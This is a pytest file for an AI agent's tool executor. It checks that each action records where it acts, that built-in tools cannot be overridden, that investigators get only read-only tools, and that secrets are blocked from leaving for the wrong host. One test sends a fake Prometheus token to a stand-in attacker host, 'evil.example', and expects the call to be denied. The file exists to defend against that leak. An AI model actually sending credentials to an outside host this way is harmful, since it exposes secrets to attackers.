"""Tools that act elsewhere on the way through the executor."""

from collections.abc import AsyncGenerator, Mapping
from pathlib import Path
from typing import Any

import pytest
from tool_setup import Person, ToolSetup, local

from hermes.core.actions import Action, Decision
from hermes.core.events.tools import ToolDecided, ToolRequested
from hermes.core.messages import (
    OutgoingRequest,
    RemoteTarget,
    Risk,
    ToolCall,
    ToolDefinition,
    ToolSpec,
)
from hermes.core.protocols import Tool, ToolContext
from hermes.sre.responders.investigation import read_only_executor
from hermes.tools.action_description import origin_of
from hermes.tools.executor import SECRET_RULE, Executor, LayeredTools
from hermes.tools.skills import skill_call, skill_create

pytestmark = pytest.mark.anyio

TOKEN = "s3cr3t-value-of-prometheus"


class Asking:
    """A tool that would send one request, and remembers what it sent."""

    def __init__(self, risk: Risk = Risk.READ) -> None:
        self.spec = ToolSpec(name="ask", description="", parameters={}, risk=risk)
        self.definition = ToolDefinition(name="mcp:far/ask", digest="d1")
        self.sent: list[Mapping[str, Any]] = []

    def request(self, arguments: Mapping[str, Any]) -> OutgoingRequest:
        url = str(arguments.get("url", "https://prom.example:9090/q"))
        return OutgoingRequest(method="GET", url=url)

    def acts_on(self, arguments: Mapping[str, Any]) -> RemoteTarget:
        return RemoteTarget(kind="prometheus", host="prom.example")

    async def __call__(self, context: ToolContext, arguments: Mapping[str, Any]) -> str:
        self.sent.append(arguments)
        return "answered"


class Allow:
    def __init__(self) -> None:
        self.seen: list[Action] = []

    def decide(self, action: Action) -> Decision:
        self.seen.append(action)
        return Decision(verdict="allow", rule="all", effects=("network-read",))


def find_secret(text: str, origin: str) -> str:
    return "PROM_TOKEN" if TOKEN in text and origin != "https://prom.example:9090" else ""


@pytest.fixture
async def setup(tmp_path: Path) -> AsyncGenerator[ToolSetup, None]:
    async with local(tmp_path) as environment:
        made = ToolSetup(environment, {"ask": Asking()}, policy=Allow(), person=Person(says=False))
        made.executor = Executor(
            {"ask": Asking()}, Allow(), made.person, made.bus, find_secret=find_secret
        )
        yield made


@pytest.mark.command
async def test_the_action_says_where_it_acts_and_what_it_sends(setup: ToolSetup) -> None:
    policy = Allow()
    await setup.executor.with_policy(policy).execute(ToolCall("1", "ask", {}), setup.context())
    [action] = policy.seen
    assert action.remote == RemoteTarget(kind="prometheus", host="prom.example")
    assert action.request is not None
    assert action.request.method == "GET"
    assert (action.target, action.isolated) == ("prom.example", False)
    [asked] = [event for event in setup.journal.events if isinstance(event, ToolRequested)]
    assert (asked.remote, asked.definition) == (action.remote, action.definition)


@pytest.mark.command
async def test_a_secret_leaves_only_for_the_host_that_it_is_for(setup: ToolSetup) -> None:
    kept = await setup.result("ask", url="https://evil.example/", query=f"x{TOKEN}y")
    assert kept.status == "denied"
    assert "PROM_TOKEN" in kept.content
    nested = await setup.result("ask", url="https://evil.example/", body={"a": [{TOKEN: 1}]})
    assert nested.status == "denied"
    assert await setup.ok("ask", query=TOKEN) == "answered"
    decided = [event.rule for event in setup.journal.events if isinstance(event, ToolDecided)]
    assert decided == [SECRET_RULE, SECRET_RULE, "all"]


def test_an_origin_has_no_standard_port_and_no_case() -> None:
    assert origin_of("HTTPS://Prom.Example:443/x?y") == "https://prom.example"
    assert origin_of("http://prom:9090") == "http://prom:9090"


def test_a_later_layer_cannot_take_the_name_of_a_built_in() -> None:
    first: dict[str, Tool] = {"terminal": skill_call, "a": skill_call}
    second: dict[str, Tool] = {"terminal": skill_create, "a": skill_create}
    table = LayeredTools(first, second)
    assert table["terminal"] is skill_call
    assert table["a"] is skill_create
    assert LayeredTools(first, second, replaced=("terminal",))["terminal"] is skill_create


async def test_investigators_get_what_a_person_classed_as_read(setup: ToolSetup) -> None:
    tools: dict[str, Tool] = {"ask": Asking(), "change": Asking(Risk.CHANGE), "own": skill_call}
    executor = Executor(tools, Allow(), setup.person, setup.bus)
    assert [spec.name for spec in read_only_executor(executor).specs] == ["ask"]
